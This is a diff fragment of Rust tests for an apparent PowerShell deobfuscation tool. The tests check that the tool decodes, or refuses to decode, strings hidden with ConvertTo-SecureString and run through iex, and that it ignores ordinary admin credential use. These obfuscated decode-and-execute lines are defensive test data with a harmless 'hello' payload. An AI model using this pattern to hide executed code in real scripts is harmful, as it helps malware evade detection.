+        cases.push((HELLO, format!("$s=ConvertTo-SecureString -Key (1..{bits}) -String '{text}';(New-Object System.Management.Automation.PSCredential(' ',$s)).GetNetworkCredential().Password|iex")));
+        // Another key, and no key at all.
+        for closed in [
+            format!("iex ('{text}'|ConvertTo-SecureString -Key (2..{}))", bits + 1),
+            format!("iex ('{text}'|ConvertTo-SecureString)"),
+        ] {
+            let decoded = powershell(&closed);
+            assert!(!decoded.layers.iter().any(|layer| layer.text.contains("hello")), "{:?}", decoded.layers);
+        }
+    }
+    all_open(&cases);
+    let locked =
+        powershell(&format!("$p='{}'|ConvertTo-SecureString;iex $p", "01000000d08c9ddf0115d111".repeat(9)));
+    assert!(locked.problems.iter().any(|problem| problem.id == "locked-text"), "{:?}", locked.problems);
+    // What administrators keep is no layer, and hides nothing.
+    let kept =
+        powershell(&format!("$p=ConvertTo-SecureString '{header}' -Key (1..16);Connect-Thing -Password $p"));
+    assert_eq!((kept.layers.len(), kept.traits.len()), (1, 0));
+}
